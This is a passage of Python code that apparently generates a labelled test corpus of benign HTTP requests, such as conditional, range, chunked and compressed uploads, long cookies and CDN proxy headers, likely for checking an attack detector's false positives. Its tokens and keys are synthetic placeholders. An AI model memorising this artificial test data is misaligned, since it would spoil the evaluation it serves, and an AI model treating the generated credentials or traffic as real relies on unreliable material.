        ("/", "W3C-checklink/5.0.0 libwww-perl/6.76", []),
        ("/blog/2024/05/http-caching-explained", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", []),
        ("/v1/buckets/media/objects/videos%2Fintro.mp4", "aws-cli/2.15.40 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.22 md/prompt#off md/command#s3api.head-object", []),
        ("/static/js/main.8f3a2c1d.js", "Go-http-client/1.1", [("If-None-Match", '"8f3a2c1d"')]),
        ("/feeds/posts.atom", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 512 subscribers; like FeedFetcher-Google)", [("If-Modified-Since", None)]),
        ("/api/v1/health", "kube-probe/1.29", []),
        ("/images/banner-2024.webp", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", []),
        ("/releases/latest/checksums.txt", "Wget/1.21.4", []),
        ("/docs/whitepaper.pdf", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", []),
    ]
    for p, ua, extra in heads:
        extra = [(k, v if v is not None else httpdate(R)) for k, v in extra]
        c.add("head", "benign", "HEAD", p, sh(R, R.choice(SITES), ua, accept="*/*", extra=extra))

    # ---- conditional requests
    for i in range(8):
        tags = ", ".join(etag(R, weak=R.random() < 0.5) for _ in range(R.randint(1, 4)))
        path = R.choice(["/api/v1/catalog", "/static/css/app.css", "/", "/feeds/news.xml", "/api/v2/users/me",
                         "/assets/data/countries.json", "/manifest.webmanifest", "/docs/api.html"])
        c.add("conditional", "benign", "GET", path + ("" if i % 3 else "?lang=%s" % R.choice(["en", "de", "fr"])),
              bh(R, R.choice(SITES), accept=ACCEPT_JSON if "api" in path else ACCEPT_HTML,
                 extra=[("If-None-Match", tags), ("Cache-Control", "max-age=0")]))
    for i in range(5):
        c.add("conditional", "benign", "GET", R.choice(["/sitemap.xml", "/rss", "/robots.txt", "/news/archive/2024", "/api/v1/rates/eur"]) + ("?v=%d" % i if i else ""),
              sh(R, R.choice(SITES), R.choice(["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "FreshRSS/1.23.1 (Linux; https://freshrss.org)", "Tiny Tiny RSS/23.12 (https://tt-rss.org/)", "python-requests/2.31.0"]),
                 accept="*/*", extra=[("If-Modified-Since", httpdate(R))] + ([("If-None-Match", etag(R))] if i % 2 else [])))
    c.add("conditional", "benign", "PUT", "/api/v2/documents/7731", sh(R, "api.example.com", "axios/1.6.8", extra=[
        ("Content-Type", "application/json"), ("If-Match", '"3f2c9e1a7b"'), ("Authorization", "Bearer " + alnum(R, 40))]),
        json.dumps({"title": "Q2 plan", "body": "Updated after review.", "version": 14}))
    c.add("conditional", "benign", "PUT", "/v1/objects/reports/2024-05.csv", sh(R, "files.example.org", "Go-http-client/1.1", extra=[
        ("Content-Type", "text/csv"), ("If-None-Match", "*")]), "date,visits,orders\n2024-05-01,1832,44\n2024-05-02,1760,39\n")
    c.add("conditional", "benign", "DELETE", "/api/v1/webhooks/wh_82hd", sh(R, "api.example.com", "python-requests/2.31.0", extra=[
        ("If-Unmodified-Since", httpdate(R)), ("Authorization", "Bearer " + alnum(R, 40))]))
    c.add("conditional", "benign", "PATCH", "/api/v1/tickets/5512", sh(R, "support.example.com", "okhttp/4.12.0", extra=[
        ("Content-Type", "application/merge-patch+json"), ("If-Match", 'W/"a1b2c3", "d4e5f6"')]), json.dumps({"status": "closed"}))
    for i in range(4):
        c.add("conditional", "benign", "GET", R.choice(["/media/podcast/ep112.mp3", "/downloads/dataset-2024.zip", "/video/keynote-1080p.mp4", "/files/manual.pdf"]),
              sh(R, "media.example.com", R.choice(["Microsoft BITS/7.8", "aria2/1.37.0", "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4_1 like Mac OS X; en_us)", "Transmit/5.10.4"]),
                 accept="*/*", extra=[("Range", "bytes=%d-" % (R.randint(1, 900) * 65536)),
                                      ("If-Range", etag(R) if i % 2 else httpdate(R))]))

    # ---- Range requests
    ranges = [
        ("/video/keynote-1080p.mp4", "bytes=0-1", "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4_1 like Mac OS X; en_us)"),
        ("/video/keynote-1080p.mp4", "bytes=1048576-2097151", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
        ("/docs/annual-report-2023.pdf", "bytes=65536-131071", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
        ("/docs/annual-report-2023.pdf", "bytes=0-499, 1000-1499, -200", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
        ("/logs/app.log", "bytes=-500", "curl/8.5.0"),
        ("/downloads/ubuntu-24.04-desktop-amd64.iso", "bytes=2147483648-", "aria2/1.37.0"),
        ("/downloads/setup-x64.msi", "bytes=0-0", "Microsoft BITS/7.8"),
        ("/audio/episode-58.mp3", "bytes=0-", "Spotify/8.9.36 Android/34 (Pixel 8)"),
        ("/data/tiles/zoom12.pmtiles", "bytes=0-16383", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15"),
        ("/data/tiles/zoom12.pmtiles", "bytes=524288-540671", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15"),
        ("/warehouse/events/part-00017.parquet", "bytes=-65536", "DuckDB/0.10.2 (linux_amd64)"),
        ("/warehouse/events/part-00017.parquet", "bytes=4-1200000,1200001-1450000", "pyarrow/16.0.0"),
        ("/music/track-07.flac", "bytes=500-999,2000-2999", "VLC/3.0.20 LibVLC/3.0.20"),
        ("/models/tokenizer.json", "bytes=0-1048575", "python-requests/2.31.0"),
        ("/backups/db-2024-05-14.sql.gz", "bytes=104857600-209715199", "rclone/v1.66.0"),
        ("/hls/stream_720p/segment00042.ts", "bytes=0-188799", "ExoPlayerLib/2.19.1"),
    ]
    for p, r, ua in ranges:
        c.add("range", "benign", "GET", p, sh(R, R.choice(["media.example.com", "cdn.example.net", "files.example.org"]), ua,
                                                accept="*/*", extra=[("Range", r)]))

    # ---- Expect: 100-continue uploads
    for i in range(8):
        rows = ["sku,name,qty,price"] + ["SKU-%05d,%s,%d,%.2f" % (R.randint(1, 99999), R.choice(["Widget", "Cable 2m", "Adapter USB-C", "Desk lamp", "Notebook A5"]), R.randint(1, 500), R.random() * 90 + 1) for _ in range(60)]
        body = "\n".join(rows) + "\n"
        if i % 4 == 0:
            ua, path, ctype = "curl/8.5.0", "/api/v1/imports/inventory", "text/csv"
        elif i % 4 == 1:
            ua, path, ctype = "aws-cli/2.15.40 md/command#s3.cp", "/exports/inventory-%d.csv" % i, "text/csv"
        elif i % 4 == 2:
            ua, path, ctype = "elasticsearch-py/8.13.0 (Python/3.11.8; elastic-transport/8.13.0)", "/_bulk", "application/x-ndjson"
            body = "".join(json.dumps({"index": {"_index": "orders", "_id": str(1000 + j)}}) + "\n" +
                           json.dumps({"status": "paid", "total": round(R.random() * 300, 2), "currency": "EUR"}) + "\n" for j in range(20))
        else:
            ua, path, ctype = "Mozilla/5.0 (compatible; .NET HttpClient)", "/api/documents/upload", "application/json; charset=utf-8"
            body = json.dumps({"name": "contract-%d.txt" % i, "content": base64.b64encode(body.encode()).decode()})
        hdr = [("Host", R.choice(["api.example.com", "search.example.net", "files.example.org"])),
               ("User-Agent", ua), ("Accept", "*/*"), ("Content-Type", ctype), ("Expect", "100-continue")]
        if i % 4 >= 2:
            hdr.append(("Connection", "Keep-Alive"))
        c.add("expect-continue", "benign", "PUT" if i % 4 == 1 else "POST", path, hdr, body)

    # ---- chunked uploads with chunk extensions and trailers (raw)
    def s3_chunked(host, key, data, signed, ua):
        parts = [data[j:j + 1024] for j in range(0, len(data), 1024)]
        body = b""
        if signed:
            for p in parts:
                body += chunk(p, ";chunk-signature=" + hexs(R, 64))
            body += b"0;chunk-signature=" + hexs(R, 64).encode() + b"\r\n\r\n"
            sha = "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"
            trailer_hdr = []
        else:
            for p in parts:
                body += chunk(p)
            crc = base64.b64encode(zlib.crc32(data).to_bytes(4, "big")).decode()
            body += b"0\r\nx-amz-checksum-crc32:" + crc.encode() + b"\r\n\r\n"
            sha = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
            trailer_hdr = ["x-amz-trailer: x-amz-checksum-crc32", "x-amz-sdk-checksum-algorithm: CRC32"]
        date = "20240514T%02d%02d%02dZ" % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59))
        lines = ["Host: " + host, "User-Agent: " + ua, "Content-Type: application/octet-stream",
                 "Content-Encoding: aws-chunked", "x-amz-content-sha256: " + sha, "x-amz-date: " + date,
                 "x-amz-decoded-content-length: %d" % len(data)] + trailer_hdr + [
                 "Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240514/us-east-1/s3/aws4_request, "
                 "SignedHeaders=content-encoding;host;x-amz-content-sha256;x-amz-date;x-amz-decoded-content-length, Signature=" + hexs(R, 64),
                 "Content-Length: {CL}"]
        c.raw("aws-chunked-upload", "benign", rawreq("PUT /%s HTTP/1.1" % key, lines, body))

    logtext = "".join("%s INFO worker-%d processed batch id=%s items=%d\n" % (
        "2024-05-14T10:%02d:%02dZ" % (m, s), m % 4, hexs(R, 8), R.randint(1, 400)) for m in range(20) for s in (5, 35))
    s3_chunked("uploads.s3.example.com", "logs/2024/05/14/worker.log", logtext.encode(), True, "aws-sdk-java/2.25.40 Linux/5.10.214 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy")
    s3_chunked("backups.s3.example.com", "db/site-2024-05-14.sql", "".join("INSERT INTO posts (id, title, status) VALUES (%d, 'Release notes %d', 'published');\n" % (k, k) for k in range(40)).encode(), True, "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 api/s3#1.53.1")
    s3_chunked("media.s3.example.com", "exports/report-q1.json", json.dumps({"rows": [{"region": r, "revenue": R.randint(1000, 90000)} for r in ["emea", "amer", "apac", "latam"] * 12]}).encode(), False, "aws-sdk-js/3.569.0 ua/2.0 os/darwin#23.4.0 lang/js md/nodejs#20.12.2 api/s3#3.569.0")
    s3_chunked("media.s3.example.com", "uploads/notes.md", ("# Meeting notes\n\n" + "".join("- follow up on ticket %d with the vendor\n" % k for k in range(70))).encode(), False, "Boto3/1.34.103 md/Botocore#1.34.103 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.103")

    def te_upload(reqline, lines, pieces, trailers=None, exts=None):
        body = b""
        for k, p in enumerate(pieces):
            assert len(p) > 0, reqline
            body += chunk(p, exts[k] if exts else "")
        body += b"0\r\n"
        for t in trailers or []:
            body += t.encode() + b"\r\n"
        body += b"\r\n"
        c.raw("chunked-upload", "benign", rawreq(reqline, lines + ["Transfer-Encoding: chunked"], body))

    nd = [json.dumps({"ts": "2024-05-14T10:%02d:00Z" % k, "level": "info", "msg": "request completed", "status": 200, "duration_ms": R.randint(3, 900)}) + "\n" for k in range(12)]
    te_upload("POST /api/v1/logs/ingest HTTP/1.1", ["Host: logs.example.com", "User-Agent: Fluent-Bit", "Content-Type: application/x-ndjson"],
              ["".join(nd[:4]), "".join(nd[4:9]), "".join(nd[9:])])
    full = "".join(nd)
    te_upload("POST /v1/ingest/events HTTP/1.1", ["Host: logs.example.com", "User-Agent: undici", "Content-Type: application/x-ndjson",
                                                  "Trailer: x-content-sha256"], [full[:700], full[700:]],
              trailers=["x-content-sha256: " + hashlib.sha256(full.encode()).hexdigest()])
    csv = "".join("%d,%s,%d\n" % (k, R.choice(["berlin", "lisbon", "osaka", "quito"]), R.randint(1, 99)) for k in range(90))
    te_upload("PUT /api/v2/datasets/weather/rows HTTP/1.1", ["Host: data.example.org", "User-Agent: python-requests/2.31.0", "Accept: */*",
                                                              "Content-Type: text/csv", "Authorization: Bearer " + alnum(R, 48)],
              [csv[:512], csv[512:1024], csv[1024:]])
    te_upload("POST /upload/stream HTTP/1.1", ["Host: files.example.org", "User-Agent: curl/8.5.0", "Accept: */*",
                                               "Content-Type: application/octet-stream"], [logtext[:2000], logtext[2000:]])
    te_upload("POST /api/uploads/resumable HTTP/1.1", ["Host: files.example.org", "User-Agent: Go-http-client/1.1",
                                                       "Content-Type: application/octet-stream", "Trailer: Digest",
                                                       "Upload-Draft-Interop-Version: 6"],
              [logtext[:1000], logtext[1000:2000], logtext[2000:]],
              trailers=["Digest: sha-256=" + base64.b64encode(hashlib.sha256(logtext.encode()).digest()).decode()],
              exts=[";name=part-1", ";name=part-2", ";name=part-3"])
    soap = ('<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            '<soap:Body><SubmitOrder xmlns="urn:example:orders"><OrderId>88123</OrderId><Lines>' +
            "".join("<Line><Sku>SKU-%04d</Sku><Qty>%d</Qty></Line>" % (k, k % 5 + 1) for k in range(25)) +
            "</Lines></SubmitOrder></soap:Body></soap:Envelope>")
    te_upload("POST /services/OrderService HTTP/1.1", ["Host: erp.example.net", "User-Agent: Java/17.0.10",
                                                       "Content-Type: text/xml; charset=utf-8", "SOAPAction: \"urn:example:orders/SubmitOrder\"",
                                                       "Accept: text/xml, text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"],
              [soap[:1024], soap[1024:]])
    layer = gzip.compress(logtext.encode(), mtime=0)
    te_upload("PATCH /v2/team/api-server/blobs/uploads/%s?_state=%s HTTP/1.1" % (uuid4(R), alnum(R, 60)),
              ["Host: registry.example.com", "User-Agent: docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.5.0-28-generic os/linux arch/amd64 UpstreamClient(Docker-Client/24.0.7 \\(linux\\))",
               "Content-Type: application/octet-stream", "Authorization: Bearer " + alnum(R, 64)],
              [layer[:len(layer) // 2], layer[len(layer) // 2:]])
    pkt = "00a4%s %s refs/heads/main\x00 report-status side-band-64k object-format=sha1 agent=git/2.43.0\n0000" % (hexs(R, 40), hexs(R, 40))
    pack = pkt.encode() + b"PACK\x00\x00\x00\x02\x00\x00\x00\x03" + zlib.compress(b"tree " + hexs(R, 40).encode() + b"\nauthor Dev <dev@example.com> 1715681234 +0200\n\nFix typo in README\n")
    te_upload("POST /platform/web-app.git/git-receive-pack HTTP/1.1",
              ["Host: git.example.com", "User-Agent: git/2.43.0", "Accept-Encoding: deflate, gzip, br, zstd",
               "Content-Type: application/x-git-receive-pack-request", "Accept: application/x-git-receive-pack-result",
               "Authorization: Basic " + base64.b64encode(b"dev:glpat-" + alnum(R, 20).encode()).decode()],
              [pack[:120], pack[120:]])
    te_upload("POST /api/v1/telemetry/batch HTTP/1.1", ["Host: iot.example.net", "User-Agent: ESP32HTTPClient",
                                                        "Content-Type: application/json", "Trailer: X-Batch-Count"],
              ['{"device":"th-0042","readings":[', ",".join('{"t":%d,"c":%.1f,"h":%d}' % (1715680000 + k * 60, 20 + R.random() * 4, R.randint(35, 60)) for k in range(15)), "]}"],
              trailers=["X-Batch-Count: 15"], exts=["", ";seq=1", ";seq=2;last"])
    te_upload("POST /graphql HTTP/1.1", ["Host: api.example.com", "User-Agent: Apollo-iOS/1.9.3", "Content-Type: application/json",
                                         "apollographql-client-name: ios-app", "apollographql-client-version: 5.12.0-1342"],
              [json.dumps({"operationName": "Feed", "query": "query Feed($first: Int!) { feed(first: $first) { edges { node { id title } } } }", "variables": {"first": 20}})])

    # ---- gzip / deflate encoded request bodies (raw, exact bytes)
    def enc_post(reqline, host, ua, ctype, payload, encoding="gzip", extra=()):
        data = gzip.compress(payload.encode(), mtime=0) if encoding == "gzip" else zlib.compress(payload.encode())
        lines = ["Host: " + host, "User-Agent: " + ua, "Content-Type: " + ctype, "Content-Encoding: " + encoding] + list(extra) + ["Content-Length: {CL}"]
        c.raw("encoded-body", "benign", rawreq(reqline, lines, data))

    ev = json.dumps({"batch": [{"type": "track", "event": "Checkout Started", "userId": "u_%s" % hexs(R, 10), "properties": {"revenue": 59.9, "currency": "EUR"}} for _ in range(8)], "sentAt": "2024-05-14T10:22:01.512Z"})
    enc_post("POST /v1/batch HTTP/1.1", "events.example.com", "analytics-node-next/1.6.0", "application/json", ev)
    logs = json.dumps([{"message": "GET /api/v1/orders 200 12ms", "service": "checkout", "ddsource": "nodejs", "hostname": "web-7f9c"} for _ in range(10)])
    enc_post("POST /api/v2/logs HTTP/1.1", "logs.example.com", "datadog-agent/7.52.0", "application/json", logs, extra=["DD-API-KEY: " + hexs(R, 32)])
    otlp = json.dumps({"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "cart"}}]},
                                          "scopeSpans": [{"spans": [{"traceId": hexs(R, 32), "spanId": hexs(R, 16), "name": "GET /cart", "kind": 2}]}]}]})
    enc_post("POST /v1/traces HTTP/1.1", "otel.example.net", "OTel-OTLP-Exporter-Go/1.26.0", "application/json", otlp)
    enc_post("POST /api/42/envelope/ HTTP/1.1", "sentry.example.com", "sentry.javascript.browser/7.112.2", "text/plain;charset=UTF-8",
             json.dumps({"event_id": hexs(R, 32), "sent_at": "2024-05-14T10:22:01.512Z"}) + "\n" + json.dumps({"type": "event"}) + "\n" +
             json.dumps({"message": "TypeError: Cannot read properties of undefined (reading 'map')", "level": "error", "platform": "javascript"}),
             extra=["Origin: https://www.example.com"])
    enc_post("POST /api/v1/sync HTTP/1.1", "api.example.com", "okhttp/4.12.0", "application/json; charset=utf-8",
             json.dumps({"since": 1715600000, "changes": [{"id": k, "op": "upsert", "table": "notes"} for k in range(30)]}), encoding="deflate")
    enc_post("POST /write?db=metrics&precision=s HTTP/1.1", "influx.example.org", "Telegraf/1.30.2 Go/1.22.2", "text/plain; charset=utf-8",
             "".join("cpu,host=web-%02d usage_user=%.2f,usage_system=%.2f 1715681%03d\n" % (k % 6, R.random() * 40, R.random() * 10, k) for k in range(40)))


def benign_headers(c):
    R = c.R
    # ---- long but legitimate cookies and headers
    def ga():
        return "GA1.1.%d.%d" % (R.randint(100000000, 2000000000), R.randint(1690000000, 1715000000))
    for i in range(7):
        consent = ("isGpcEnabled=0&datestamp=Tue+May+14+2024+10%3A22%3A01+GMT%2B0200+(Central+European+Summer+Time)"
                   "&version=202402.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=" + uuid4(R) +
                   "&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A" + str(i % 2) + "%2CC0004%3A0&AwaitingReconsent=false")
        parts = ["_ga=" + ga(), "_ga_%s=GS1.1.%d.%d.1.%d.0.0.0" % (alnum(R, 10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), R.randint(1715000000, 1715700000), R.randint(1, 40), R.randint(1715000000, 1715700000)),
                 "_gid=GA1.2.%d.%d" % (R.randint(100000000, 2000000000), R.randint(1715000000, 1715700000)),
                 "_fbp=fb.1.%d.%d" % (R.randint(1700000000000, 1715700000000), R.randint(100000000, 2000000000)),
                 "_gcl_au=1.1.%d.%d" % (R.randint(100000000, 2000000000), R.randint(1710000000, 1715700000)),
                 "OptanonConsent=" + consent, "OptanonAlertBoxClosed=2024-05-14T08:22:01.512Z",
                 "ajs_anonymous_id=%22" + uuid4(R) + "%22", "AWSALB=" + base64.b64encode(bytes(R.randrange(256) for _ in range(90))).decode(),
                 "AWSALBCORS=" + base64.b64encode(bytes(R.randrange(256) for _ in range(90))).decode(),
                 "__cf_bm=" + alnum(R, 43) + "-" + str(R.randint(1715000000, 1715700000)) + "-1.0.1.1-" + alnum(R, 86, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._"),
                 "session=" + jwt(R, {"sub": "user_%d" % R.randint(1000, 99999), "iat": 1715681234, "exp": 1715767634, "scope": "read write", "tenant": "acme", "roles": ["editor"]})]
        R.shuffle(parts)
        c.add("long-cookie", "benign", "GET", R.choice(["/", "/account", "/cart", "/products/trail-runner-3", "/checkout/shipping", "/blog/", "/search?q=rain+jacket"]),
              bh(R, R.choice(["www.example.com", "shop.example.com"]), extra=[("Cookie", "; ".join(parts)), ("Upgrade-Insecure-Requests", "1")]))
    c.add("long-header", "benign", "GET", "/api/v1/me", sh(R, "api.example.com", "okhttp/4.12.0", extra=[
        ("Authorization", "Bearer " + jwt(R, {"iss": "https://login.example.com/", "sub": "auth0|" + hexs(R, 24), "aud": ["https://api.example.com", "https://login.example.com/userinfo"],
                                              "iat": 1715681234, "exp": 1715767634, "azp": alnum(R, 32), "scope": "openid profile email offline_access read:orders write:orders",
                                              "permissions": ["read:orders", "write:orders", "read:invoices", "read:profile", "write:profile"], "https://example.com/claims/org": "org_" + alnum(R, 16)}))]))
    c.add("long-header", "benign", "GET", "/", bh(R, "www.example.com", ua=BROWSERS[0], extra=[
        ("X-Client-Data", base64.b64encode(bytes(R.randrange(256) for _ in range(120))).decode()),
        ("Sec-CH-UA-Full-Version-List", '"Chromium";v="124.0.6367.119", "Google Chrome";v="124.0.6367.119", "Not-A.Brand";v="99.0.0.0"')]))
    c.add("long-header", "benign", "GET", "/reports/quarterly", bh(R, "intranet.example.org", extra=[
        ("X-Amzn-Oidc-Data", jwt(R, {"sub": hexs(R, 24), "email": "j.doe@example.org", "name": "Jane Doe", "exp": 1715682234, "iss": "https://login.example.org"})),
        ("X-Amzn-Oidc-Identity", hexs(R, 24)), ("X-Amzn-Oidc-Accesstoken", jwt(R, {"scp": "openid email", "ver": 1}))]))
    c.add("long-header", "benign", "GET", "/wiki/Runbooks", bh(R, "intranet.example.org", extra=[
        ("Cf-Access-Jwt-Assertion", jwt(R, {"aud": [hexs(R, 64)], "email": "ops@example.org", "type": "app", "identity_nonce": alnum(R, 16), "country": "DE"})),
        ("Cf-Access-Authenticated-User-Email", "ops@example.org")]))
    c.add("long-header", "benign", "GET", "/dashboard", bh(R, "intranet.example.org", extra=[
        ("X-Goog-Authenticated-User-Email", "accounts.google.com:j.smith@example.org"),
        ("X-Goog-Authenticated-User-Id", "accounts.google.com:%d" % R.randint(10**20, 10**21)),
        ("X-Goog-IAP-JWT-Assertion", jwt(R, {"aud": "/projects/123/global/backendServices/456", "email": "j.smith@example.org", "hd": "example.org"}))]))

    # ---- Cache-Control / Pragma variants
    cc = [
        [("Cache-Control", "no-cache"), ("Pragma", "no-cache")],
        [("Cache-Control", "max-age=0")],
        [("Pragma", "no-cache")],
        [("Cache-Control", "no-store")],
        [("Cache-Control", "max-stale=3600")],
        [("Cache-Control", "min-fresh=60, no-transform")],
        [("Cache-Control", "only-if-cached")],
        [("Cache-Control", "no-cache, no-store, must-revalidate"), ("Pragma", "no-cache"), ("Expires", "0")],
        [("Surrogate-Capability", 'abc="Surrogate/1.0 ESI/1.0"'), ("Cache-Control", "max-age=60")],
        [("Cache-Control", "stale-if-error=86400")],
    ]
    for i, extra in enumerate(cc):
        p = ["/", "/news", "/api/v1/config", "/static/js/vendor.js", "/weather/berlin", "/m/home", "/offline.html",
             "/api/v1/session/refresh", "/fragments/header", "/api/v1/prices"][i]
        ua = R.choice(BROWSERS) if i not in (2, 8) else ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)" if i == 2 else "Varnish/7.4")
        c.add("cache-control", "benign", "GET", p, bh(R, R.choice(SITES), ua=ua, extra=extra))

    # ---- CDN / proxy chains
    iata = ["FRA", "AMS", "LHR", "CDG", "IAD", "SJC", "NRT", "SIN", "GRU", "SYD", "MAD", "WAW"]
    countries = ["DE", "NL", "GB", "FR", "US", "US", "JP", "SG", "BR", "AU", "ES", "PL"]
    paths = ["/", "/products/trail-runner-3", "/api/v1/cart", "/blog/2024/05/release-notes", "/search?q=wool+socks&page=2",
             "/account/orders", "/static/css/app.4f2a.css", "/de/produkte", "/api/v2/recommendations?limit=12", "/checkout/payment",
             "/help/returns", "/images/hero@2x.webp", "/feeds/posts.atom", "/api/v1/stock?sku=SKU-12345"]

    def cf():
        ip, k = docip(R), R.randrange(len(iata))
        return [("CF-Connecting-IP", ip), ("CF-IPCountry", countries[k]), ("CF-Ray", "%s-%s" % (hexs(R, 16), iata[k])),
                ("CF-Visitor", '{"scheme":"https"}'), ("X-Forwarded-For", ip), ("X-Forwarded-Proto", "https"), ("CDN-Loop", "cloudflare")]

    def cf_ent():
        h = cf()
        h.append(("True-Client-IP", h[0][1]))
        return h

    def fastly():
        ip, k = docip(R), R.randrange(len(iata))
        return [("Fastly-Client-IP", ip), ("X-Forwarded-For", ip), ("Fastly-SSL", "1"),
                ("Fastly-FF", "%s!cache-%s%d-%s" % (base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode(), iata[k].lower(), R.randint(1000000, 9999999), iata[k])),
                ("CDN-Loop", "Fastly"), ("X-Timer", "S%d.%06d,VS0" % (R.randint(1715000000, 1715700000), R.randint(0, 999999))),
                ("Fastly-Orig-Accept-Encoding", "gzip, deflate, br")]

    def akamai():
        ip = docip(R)
        return [("True-Client-IP", ip), ("X-Forwarded-For", "%s, %s" % (ip, docip(R))), ("Akamai-Origin-Hop", "2"),
                ("Via", "1.1 v1-akamaitech.net(ghost) (AkamaiGHost), 1.1 akamai.net(ghost) (AkamaiGHost)"),
                ("X-Akamai-Edgescape", "georegion=101,country_code=DE,region_code=HE,city=FRANKFURT,lat=50.12,long=8.68,timezone=GMT+1,continent=EU,throughput=vhigh,bw=5000,network=cable,asnum=3320"),
                ("Akamai-Request-BC", "[a=%s,b=%d,c=g,n=DE_HE_FRANKFURT,o=3320]" % (docip(R), R.randint(10**8, 10**9)))]

    def cloudfront():
        ip = docip(R)
        return [("X-Amz-Cf-Id", base64.urlsafe_b64encode(bytes(R.randrange(256) for _ in range(42))).decode()),
                ("Via", "2.0 %s.cloudfront.net (CloudFront)" % hexs(R, 32)), ("X-Forwarded-For", ip),
                ("CloudFront-Viewer-Country", R.choice(countries)), ("CloudFront-Is-Mobile-Viewer", "false"),
                ("CloudFront-Is-Desktop-Viewer", "true"), ("CloudFront-Forwarded-Proto", "https"),
                ("CloudFront-Viewer-Address", "%s:%d" % (ip, R.randint(1024, 65535)))]

    def alb():
        ip = docip(R)
        return [("X-Forwarded-For", "%s, %s" % (ip, docip(R))), ("X-Forwarded-Proto", "https"), ("X-Forwarded-Port", "443"),
                ("X-Amzn-Trace-Id", "Root=1-%s-%s" % (hexs(R, 8), hexs(R, 24)))]

    def gclb():
        ip = docip(R)
        return [("Via", "1.1 google"), ("X-Forwarded-For", "%s,%s" % (ip, docip(R))), ("X-Forwarded-Proto", "https"),
                ("X-Cloud-Trace-Context", "%s/%d;o=1" % (hexs(R, 32), R.randint(10**17, 10**19))),
                ("traceparent", "00-%s-%s-01" % (hexs(R, 32), hexs(R, 16)))]

    def azure(host):
        ip = docip(R)
        return [("X-Azure-ClientIP", ip), ("X-Azure-SocketIP", ip), ("X-Forwarded-For", ip), ("X-Forwarded-Proto", "https"),
                ("X-Forwarded-Host", host), ("X-Azure-Ref", "0" + alnum(R, 60) + "="), ("X-Azure-RequestChain", "hops=1"),
                ("X-FD-OriginalUrl", "https://%s/" % host)]

    def envoy():
        ip = docip(R)
        return [("x-forwarded-for", ip), ("x-forwarded-proto", "https"), ("x-envoy-external-address", ip),
                ("x-request-id", uuid4(R)), ("x-b3-traceid", hexs(R, 32)), ("x-b3-spanid", hexs(R, 16)),
                ("x-b3-parentspanid", hexs(R, 16)), ("x-b3-sampled", "1"),
                ("x-forwarded-client-cert", 'By=spiffe://cluster.local/ns/shop/sa/cart;Hash=%s;Subject="";URI=spiffe://cluster.local/ns/istio-system/sa/istio-ingressgateway-service-account' % hexs(R, 64))]

    def multihop(host):
        a, b2, cc_ = docip(R), docip(R), docip(R)
        return [("Forwarded", 'for=%s;proto=https;host=%s, for="[2001:db8:cafe::17]:4711";by=%s' % (a, host, cc_)),
                ("X-Forwarded-For", "%s, 2001:db8:cafe::17, %s" % (a, b2)), ("Via", "1.1 varnish (Varnish/7.4), 1.1 edge.example.net"),
                ("X-Forwarded-Host", host), ("X-Forwarded-Proto", "https"), ("X-Varnish", str(R.randint(10**6, 10**8)))]

    gens = [cf, cf, cf, cf_ent, fastly, fastly, fastly, akamai, akamai, akamai, cloudfront, cloudfront, cloudfront, cloudfront,
            alb, alb, alb, gclb, gclb, gclb, "azure", "azure", "azure", envoy, envoy, envoy, "multihop", "multihop", "multihop",
            cf, cloudfront, fastly]
    for i, g in enumerate(gens):
        host = R.choice(["www.example.com", "shop.example.com", "api.example.com", "www.example.org", "store.example.net"])
        p = paths[i % len(paths)]
        if g == "azure":
            extra = azure(host)
        elif g == "multihop":
            extra = multihop(host)
        else:
            extra = g()
        if p.startswith("/api"):
            hs = bh(R, host, accept=ACCEPT_JSON, extra=extra)
        elif p.startswith("/static") or p.startswith("/images"):
            hs = bh(R, host, accept=ACCEPT_IMG if "images" in p else "text/css,*/*;q=0.1", extra=extra)
        else:
            hs = bh(R, host, extra=extra)
        c.add("cdn-chain", "benign", "GET", p, hs)

    # ---- tracing, Prefer, Link, Idempotency-Key
    tp = lambda: "00-%s-%s-0%d" % (hexs(R, 32), hexs(R, 16), R.choice([0, 1]))
    tr = [
